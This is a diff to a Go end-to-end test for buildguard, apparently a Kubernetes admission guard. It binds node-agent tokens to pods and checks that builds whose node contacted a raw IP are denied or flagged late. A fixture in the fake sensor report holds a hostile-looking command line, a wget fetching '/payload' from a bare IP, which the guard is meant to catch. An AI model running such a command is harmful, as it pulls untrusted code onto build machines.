@@ -396,7 +396,17 @@ spec:
 
 	t.Run("node reports: a build on a worker that talked to a raw IP is denied, and found late", func(t *testing.T) {
 		e.mustKubectl("", "create", "serviceaccount", "buildguard-node-agent", "-n", "buildguard-node-agent")
-		token := strings.TrimSpace(e.mustKubectl("", "create", "token", "buildguard-node-agent", "-n", "buildguard-node-agent", "--audience=buildguard"))
+		// Each node's agent reports with a token bound to its pod on that
+		// node: buildguard takes the node from the token.
+		tokens := map[string]string{}
+		tokenOf := func(node string) string {
+			if tokens[node] == "" {
+				e.mustKubectl(AgentPodYAML(node), "apply", "-f", "-")
+				tokens[node] = strings.TrimSpace(e.mustKubectl("", "create", "token", "buildguard-node-agent", "-n", "buildguard-node-agent", "--audience=buildguard",
+					"--bound-object-kind=Pod", "--bound-object-name=node-agent-"+node))
+			}
+			return tokens[node]
+		}
 		caB64 := e.mustKubectl("", "get", "validatingwebhookconfiguration", "buildguard", "-o", "jsonpath={.webhooks[0].clientConfig.caBundle}")
 		ca, err := base64.StdEncoding.DecodeString(caB64)
 		if err != nil {
@@ -405,24 +415,33 @@ spec:
 		pool := x509.NewCertPool()
 		pool.AppendCertsFromPEM(ca)
 		client := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: pool}}}
-		report := func(cfg v1.Hash, node string) {
+		built := time.Now().Add(-time.Hour).UTC()
+		post := func(node, items, want string) {
 			t.Helper()
-			built := time.Now().Add(-time.Hour).UTC()
-			body := fmt.Sprintf(`{"apiVersion":"buildguard.dev/v1alpha1","kind":"NodeReport","node":%q,"sensor":"ebpf",
-"builds":[{"eventID":"build-%s","tool":"docker","imageID":%q,"started":%q,"finished":%q}],
-"connections":[{"eventID":"conn-%s","time":%q,"process":"wget","pid":4242,"cmdline":"wget -q http://203.0.113.9:8080/payload","destIP":"203.0.113.9","destPort":8080}]}`,
-				node, cfg.Hex[:12], cfg.String(), built.Format(time.RFC3339), built.Add(time.Minute).Format(time.RFC3339), cfg.Hex[:12], built.Add(20*time.Second).Format(time.RFC3339))
+			body := fmt.Sprintf(`{"apiVersion":"buildguard.dev/v1alpha1","kind":"NodeReport","node":%q,"sensor":"ebpf",%s}`, node, items)
 			req, _ := http.NewRequestWithContext(ctx, http.MethodPost, strings.TrimSuffix(bg.URL, "/validate")+"/v1/node-reports", strings.NewReader(body))
-			req.Header.Set("Authorization", "Bearer "+token)
+			req.Header.Set("Authorization", "Bearer "+tokenOf(node))
 			resp, err := client.Do(req)
 			if err != nil {
 				t.Fatal(err)
 			}
 			b, _ := io.ReadAll(resp.Body)
 			resp.Body.Close()
-			if resp.StatusCode != http.StatusOK || !strings.Contains(string(b), `"builds":1`) {
-				t.Fatalf("POST /v1/node-reports = %d %s", resp.StatusCode, b)
+			if resp.StatusCode != http.StatusOK || !strings.Contains(string(b), want) {
+				t.Fatalf("POST /v1/node-reports = %d %s, want %s", resp.StatusCode, b, want)
 			}
+		}
+		buildItem := func(cfg v1.Hash) string {
+			return fmt.Sprintf(`"builds":[{"eventID":"build-%s","tool":"docker","imageID":%q,"started":%q,"finished":%q}]`,
+				cfg.Hex[:12], cfg.String(), built.Format(time.RFC3339), built.Add(time.Minute).Format(time.RFC3339))
+		}
+		connItem := func(cfg v1.Hash) string {
+			return fmt.Sprintf(`"connections":[{"eventID":"conn-%s","time":%q,"process":"wget","pid":4242,"cmdline":"wget -q http://203.0.113.9:8080/payload","destIP":"203.0.113.9","destPort":8080}]`,
+				cfg.Hex[:12], built.Add(20*time.Second).Format(time.RFC3339))
+		}
+		report := func(cfg v1.Hash, node string) {
+			t.Helper()
+			post(node, buildItem(cfg)+","+connItem(cfg), `"builds":1`)
 		}
 		push := func(repo string) v1.Hash {
 			img, err := testregistry.MakeImage(testregistry.Image{Created: time.Now().Add(-48 * time.Hour)})
@@ -451,9 +470,24 @@ spec:
 			return nil
 		})
 
+		// Built on an approved node and admitted; the node's connection
+		// during the build is reported afterwards: judged like a late
+		// build.
+		lateConn := push("e2e/lateconn:1")
+		post("ci-runner-1", buildItem(lateConn), `"builds":1`)
+		e.mustKubectl("", "create", "deployment", "lateconn", "-n", "shop", "--image="+reg.Host+"/e2e/lateconn:1")
+		post("ci-runner-1", connItem(lateConn), `"connections":1`)
+		e.eventually(60*time.Second, "a late-evidence Event on the Deployment for a late connection", func() error {
+			out, err := e.kubectl("", "get", "events", "-n", "shop", "--field-selector=involvedObject.name=lateconn,reason=BuildguardLateEvidence", "-o", "jsonpath={.items[*].message}")
+			if err != nil || !strings.Contains(out, "untrusted-egress") || strings.Contains(out, "host-built") {
+				return fmt.Errorf("events %q (%v)", out, err)
+			}
+			return nil
+		})
+
 		// Reported first: admission is denied, with the evidence.
-		built := push("e2e/nodebuilt:1")
-		report(built, "worker-3")
+		nodeBuilt := push("e2e/nodebuilt:1")
+		report(nodeBuilt, "worker-3")
 		out, err := e.kubectl("", "create", "deployment", "nodebuilt", "-n", "shop", "--image="+reg.Host+"/e2e/nodebuilt:1")
 		if err == nil {
 			t.Fatalf("admitted: %s", out)
